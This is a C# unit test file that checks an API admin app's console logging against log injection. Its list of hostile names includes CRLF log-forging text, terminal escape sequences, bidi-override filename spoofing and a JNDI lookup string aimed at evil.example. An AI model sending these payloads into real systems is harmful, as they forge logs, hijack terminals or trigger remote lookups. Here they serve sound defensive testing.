using System.Text.Json;
using System.Text.RegularExpressions;
using ApiAdmin.Core.Access;
using ApiAdmin.Tests.Support;
using ApiAdmin.Web.Operations;
using Microsoft.AspNetCore.Builder;
using Microsoft.Extensions.DependencyInjection;
using Microsoft.Extensions.Logging;
using Microsoft.Extensions.Logging.Abstractions;

namespace ApiAdmin.Tests.Operations;

/// <summary>Names of users, APIs and secrets that would begin an event of their own or steer a terminal: one event stays one event.</summary>
public sealed partial class LogInjectionTests
{
    private static readonly string[] Hostile =
    [
        "ana\r\n2026-11-22T12:00:00.000Z ERROR Forged: the disk burns", "line\nfeed", "carriage\rreturn", "\u001b[2J\u001b[31mred\u001b[0m", "\u001b]0;title\a",
        "\u001b]8;;http://evil.example\u001b\\link\u001b]8;;\u001b\\", "\u009b31m", "back\b\b\bspace", "nul\0byte", "\u2028separated\u2029", "\u0085next line",
        "vertical\vtab\fform", "delete\u007f", "\u202egnp.exe", "\u2066isolate\u2069", "%0d%0aencoded", "{0} {Method} {{", "${jndi:ldap://evil.example/a}",
    ];

    [SkippableFact]
    public async Task HostileNames_EverywhereOverRestAndSignIn_MakeOneLineAnEvent()
    {
        var log = new ConsoleLines();
        await using var app = await TestApp.StartAsync(
            settings: new Dictionary<string, string?> { ["Logging:LogLevel:Default"] = "Trace" },
            adjust: builder => builder.Logging.ClearProviders().AddProvider(log).SetMinimumLevel(LogLevel.Trace));
        using var client = await RestClient.CreateAsync(app, Scopes.ApisRead, Scopes.ApisWrite);
        foreach (var (index, name) in Hostile.Concat(NaughtyStrings.Read()).Index())
        {
            await client.SendAsync(HttpMethod.Post, "/api/v1/apis", JsonSerializer.Serialize(new { key = $"k-{index}", name, category = name, url = "https://crm.example.com" }));
            await client.SendAsync(HttpMethod.Put, $"/api/v1/secrets/{Uri.EscapeDataString(name)}", JsonSerializer.Serialize(new { value = "v", hosts = new[] { name } }));
        }

        using var browser = app.Anonymous();
        var users = app.Services.GetRequiredService<UserService>();
        foreach (var name in Hostile)
        {
            await browser.SubmitAsync("/login", new() { ["Form.Email"] = name, ["Form.Password"] = "wrong pass phrase" });
            await browser.GetAsync($"/{Uri.EscapeDataString(name)}");
            await Record.ExceptionAsync(() => users.CreateAsync(AccessFixture.Host, new NewUser(name, Role.Agent, TestApp.Password, name), default));
        }

        var lines = log.Text.TrimEnd('\n').Split('\n');
        Assert.True(log.Events > Hostile.Length * 5, $"Only {log.Events} events.");
        Assert.Equal(log.Events, lines.Count(line => Event().IsMatch(line)));
        Assert.All(lines, line => Assert.True(Event().IsMatch(line) || line.StartsWith("    ", StringComparison.Ordinal), line));
        Assert.DoesNotContain(lines, line => line.Any(character => char.IsControl(character) || character is '\u2028' or '\u2029' or '\u202e'));
    }

    [Fact]
    public void Event_WithEachHostileText_IsOneLineWithTheTextEncoded()
    {
        foreach (var text in Hostile)
        {
            var log = new ConsoleLines();
            ((ILogger)log).Log(LogLevel.Warning, 1, text, new InvalidOperationException(text), (state, _) => $"Signed in: {state}");
            var lines = log.Text.TrimEnd('\n').Split('\n');
            Assert.Matches(Event(), lines[0]);
            Assert.All(lines[1..], line => Assert.StartsWith("    ", line, StringComparison.Ordinal));
        }

        Assert.Equal("a\\u000d\\u000a\\u001b[2Jb", LogText.OneLine("a\r\n\u001b[2Jb"));
    }

    [GeneratedRegex("^[0-9]{4}-[0-9]{2}-[0-9]{2}T[0-9:.]{12}Z (CRIT|ERROR|WARN|INFO|DEBUG) [A-Za-z0-9_.+`<>,]+: ", RegexOptions.ExplicitCapture, matchTimeoutMilliseconds: 1000)]
    private static partial Regex Event();

    /// <summary>The product's own console formatter, writing where the test can read.</summary>
    private sealed class ConsoleLines : ILoggerProvider, ILogger
    {
        private readonly Lock gate = new();
        private readonly StringWriter writer = new() { NewLine = "\n" };
        private readonly SafeConsoleFormatter formatter = new(TimeProvider.System);

        public int Events { get; private set; }

        public string Text
        {
            get
            {
                lock (gate)
                {
                    return writer.ToString();
                }
            }
        }

        public ILogger CreateLogger(string categoryName) => this;

        public IDisposable? BeginScope<TState>(TState state)
            where TState : notnull => null;

        public bool IsEnabled(LogLevel logLevel) => true;

        public void Log<TState>(LogLevel logLevel, EventId eventId, TState state, Exception? exception, Func<TState, Exception?, string> formatter)
        {
            lock (gate)
            {
                Events++;
                this.formatter.Write(new LogEntry<TState>(logLevel, "Test.Category", eventId, state, exception, formatter), null, writer);
            }
        }

        public void Dispose()
        {
        }
    }
}
